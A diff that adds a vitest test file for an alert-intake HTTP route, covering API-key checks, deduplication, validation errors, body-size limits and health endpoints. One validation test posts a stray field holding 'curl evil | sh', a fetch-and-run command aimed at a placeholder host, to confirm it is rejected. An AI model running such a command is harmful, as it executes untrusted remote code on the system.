@@ -1,0 +1,211 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { createAlertIntakeRoute } from '../../src/intake/http-intake';
+import { startHttpServer } from '../../src/server/http-server';
+import type { RunningServer } from '../../src/server/http-server';
+import { InboundStore } from '../../src/store/inbound-store';
+import { ControllableActors } from '../support/controllable-actors';
+import { createHarness } from '../support/runtime-harness';
+import type { Harness } from '../support/runtime-harness';
+
+const KEY = 'k-9f2d7c1e5a';
+const CHAT = 'oc_default';
+
+/** Actors that never finish: incidents stay where intake put them, so the test sees only what intake did. */
+const actors = new ControllableActors();
+let h: Harness;
+let server: RunningServer;
+let databaseUp = true;
+
+beforeAll(async () => {
+  h = await createHarness({ machine: () => actors.machine() });
+  const inbound = new InboundStore(h.orm);
+  const common = { service: h.runtime, inbound, apiKeys: ['other-key', KEY], logger: h.logger };
+  server = await startHttpServer({
+    port: 0,
+    host: '127.0.0.1',
+    logger: h.logger,
+    maxBodyBytes: 64 * 1024,
+    checks: { database: () => (databaseUp ? Promise.resolve() : Promise.reject(new Error('connection refused'))) },
+    routes: [
+      createAlertIntakeRoute({ ...common, chatId: CHAT }),
+      createAlertIntakeRoute({ ...common, chatId: undefined, path: '/api/alerts-unconfigured' }),
+    ],
+  });
+});
+afterAll(async () => {
+  await server.close();
+  await h.close();
+});
+beforeEach(async () => {
+  databaseUp = true;
+  await h.orm.em.fork().getConnection().execute('truncate incidents, incident_events, inbound_events cascade');
+});
+
+function post(body: string, headers: Record<string, string> = { authorization: `Bearer ${KEY}` }, path = '/api/alerts') {
+  return fetch(`http://127.0.0.1:${server.port}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });
+}
+
+async function incidentCount(): Promise<number> {
+  const [row] = await h.orm.em.fork().getConnection().execute<{ n: string }[]>('select count(*) as n from incidents');
+  return Number(row?.n);
+}
+
+function alertmanagerBody(alertnames = ['HighErrorRate', 'DiskFull']) {
+  return JSON.stringify({
+    version: '4',
+    groupKey: '{}:{}',
+    status: 'firing',
+    receiver: 'ai-fixer',
+    groupLabels: {},
+    commonLabels: { env: 'prod' },
+    commonAnnotations: {},
+    externalURL: 'http://alertmanager:9093',
+    alerts: alertnames.map((alertname, i) => ({
+      status: 'firing',
+      labels: { alertname, severity: i === 0 ? 'critical' : 'warning', job: 'checkout', instance: `10.0.0.${i}:9100` },
+      annotations: { summary: `${alertname} on checkout` },
+      startsAt: '2026-03-14T02:17:45Z',
+      endsAt: '0001-01-01T00:00:00Z',
+      generatorURL: 'http://prometheus/graph',
+      fingerprint: `fp${i}${alertname.toLowerCase()}`,
+    })),
+  });
+}
+
+describe('POST /api/alerts', () => {
+  it('refuses a missing, wrong or malformed key with 401 and creates nothing', async () => {
+    for (const headers of [{} as Record<string, string>, { authorization: 'Bearer wrong-key' }, { authorization: KEY }, { authorization: `Basic ${KEY}` }]) {
+      const response = await post(alertmanagerBody(), headers);
+      expect(response.status).toBe(401);
+      expect(response.headers.get('www-authenticate')).toBe('Bearer');
+    }
+    expect(await incidentCount()).toBe(0);
+  });
+
+  it('opens one incident per Alertmanager alert in the default chat and answers 202 with their ids', async () => {
+    const response = await post(alertmanagerBody());
+    expect(response.status).toBe(202);
+    const { incidents } = (await response.json()) as { incidents: { id: string; state: string; severity: string }[] };
+    expect(incidents).toHaveLength(2);
+    expect(incidents.map((i) => i.severity)).toEqual(['critical', 'medium']);
+    const views = await Promise.all(incidents.map((i) => h.runtime.get(i.id)));
+    expect(views.map((v) => [v?.title, v?.chatId, v?.service, v?.fingerprint])).toEqual([
+      ['HighErrorRate', CHAT, 'checkout', 'fp0higherrorrate'],
+      ['DiskFull', CHAT, 'checkout', 'fp1diskfull'],
+    ]);
+    expect(views[0]?.context.alert).toMatchObject({ source: 'alertmanager', instance: '10.0.0.0:9100', description: 'HighErrorRate on checkout' });
+    const timeline = await h.store.timeline(incidents[0]!.id);
+    expect(timeline[0]?.actor).toMatch(/^api:[0-9a-f]{8}$/);
+  });
+
+  it('takes a generic JSON alert', async () => {
+    const response = await post(JSON.stringify({ title: 'HTTP 503 on /pay', severity: 'high', service: 'checkout' }));
+    expect(response.status).toBe(202);
+    const { incidents } = (await response.json()) as { incidents: { id: string }[] };
+    expect(await h.runtime.get(incidents[0]!.id)).toMatchObject({ title: 'HTTP 503 on /pay', chatId: CHAT });
+  });
+
+  it('ignores a redelivery of the same payload', async () => {
+    const body = alertmanagerBody(['Flapping']);
+    expect((await post(body)).status).toBe(202);
+    const again = await post(body);
+    expect(again.status).toBe(200);
+    expect(await again.json()).toMatchObject({ duplicate: true, incidents: [] });
+    expect(await incidentCount()).toBe(1);
+  });
+
+  it('counts the same payload as new again once the dedup window has passed', async () => {
+    let now = Date.parse('2026-03-14T10:09:00Z');
+    const route = createAlertIntakeRoute({
+      service: h.runtime,
+      inbound: new InboundStore(h.orm),
+      apiKeys: [KEY],
+      chatId: CHAT,
+      logger: h.logger,
+      dedupeWindowMs: 10 * 60_000,
+      now: () => now,
+    });
+    const deliver = () => route.handle({ rawBody: Buffer.from(alertmanagerBody(['Repeating'])), headers: { authorization: `Bearer ${KEY}` }, url: new URL('http://x/api/alerts') });
+    expect((await deliver()).status).toBe(202);
+    now += 2 * 60_000; // across a window boundary, still a redelivery
+    expect((await deliver()).status).toBe(200);
+    now += 60 * 60_000;
+    expect((await deliver()).status).toBe(202);
+    expect(await incidentCount()).toBe(2);
+  });
+
+  it('answers malformed input with 400 and the issues, creating nothing', async () => {
+    const notJson = await post('{"alerts": [');
+    expect(notJson.status).toBe(400);
+    expect(await notJson.json()).toMatchObject({ issues: [{ path: '', message: 'body is not JSON' }] });
+
+    const invalid = await post(JSON.stringify({ alerts: [{ status: 'firing', labels: { alertname: 'A' } }, { status: 'exploding', labels: {} }] }));
+    expect(invalid.status).toBe(400);
+    const { issues } = (await invalid.json()) as { issues: { path: string }[] };
+    expect(issues.map((i) => i.path)).toContain('alerts.1.status');
+
+    const strayField = await post(JSON.stringify({ title: 'x', run: 'curl evil | sh' }));
+    expect(strayField.status).toBe(400);
+    expect(await incidentCount()).toBe(0);
+  });
+
+  it('a malformed delivery does not block the valid one that follows', async () => {
+    expect((await post('{"title": ')).status).toBe(400);
+    expect((await post(JSON.stringify({ title: 'after a bad one' }))).status).toBe(202);
+  });
+
+  it('answers 503 with what to set when no default chat is configured', async () => {
+    const response = await post(alertmanagerBody(), undefined, '/api/alerts-unconfigured');
+    expect(response.status).toBe(503);
+    expect(await response.json()).toEqual({ error: expect.stringContaining('LARK_DEFAULT_CHAT_ID') as unknown });
+    expect(await incidentCount()).toBe(0);
+  });
+
+  it('checks the key before saying anything about the configuration', async () => {
+    const response = await post(alertmanagerBody(), { authorization: 'Bearer nope' }, '/api/alerts-unconfigured');
+    expect(response.status).toBe(401);
+  });
+});
+
+describe('the HTTP server', () => {
+  it('keeps /healthz and /readyz', async () => {
+    const base = `http://127.0.0.1:${server.port}`;
+    expect(await (await fetch(`${base}/healthz`)).json()).toEqual({ status: 'ok' });
+    expect((await fetch(`${base}/readyz`)).status).toBe(200);
+    databaseUp = false;
+    const notReady = await fetch(`${base}/readyz`);
+    expect(notReady.status).toBe(503);
+    expect(await notReady.json()).toEqual({ status: 'not ready', database: 'connection refused' });
+  });
+
+  it('answers an unknown path with 404 and a wrong method with 405', async () => {
+    const base = `http://127.0.0.1:${server.port}`;
+    expect((await fetch(`${base}/nope`)).status).toBe(404);
+    const wrongMethod = await fetch(`${base}/api/alerts`);
+    expect(wrongMethod.status).toBe(405);
+    expect(wrongMethod.headers.get('allow')).toBe('POST');
+  });
+
+  it('refuses a body over the cap with 413 before the route sees it', async () => {
+    const response = await post(JSON.stringify({ title: 'x'.repeat(70 * 1024) }));
+    expect(response.status).toBe(413);
+    expect(await incidentCount()).toBe(0);
+  });
+
+  it('refuses an oversized body sent without a declared length', async () => {
+    const chunk = new TextEncoder().encode('x'.repeat(16 * 1024));
+    const stream = new ReadableStream<Uint8Array>({
+      start(controller) {
+        for (let i = 0; i < 8; i++) controller.enqueue(chunk);
+        controller.close();
+      },
+    });
+    const response = await fetch(`http://127.0.0.1:${server.port}/api/alerts`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${KEY}` },
+      body: stream,
+      duplex: 'half',
+    });
+    expect(response.status).toBe(413);
+  });
+});
